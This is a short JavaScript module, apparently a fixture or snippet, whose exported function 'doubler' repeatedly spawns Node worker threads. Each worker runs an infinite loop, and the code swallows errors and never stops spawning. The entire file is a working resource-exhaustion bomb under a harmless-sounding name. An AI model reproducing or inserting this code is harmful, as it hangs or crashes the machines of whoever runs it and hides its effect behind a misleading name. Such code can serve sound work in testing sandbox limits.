import { Worker } from "node:worker_threads";
export const doubler = async () => { for (;;) { new Worker("for (;;);", { eval: true }).on("error", () => {}); await null; } };
export const doublerTout = () => [];
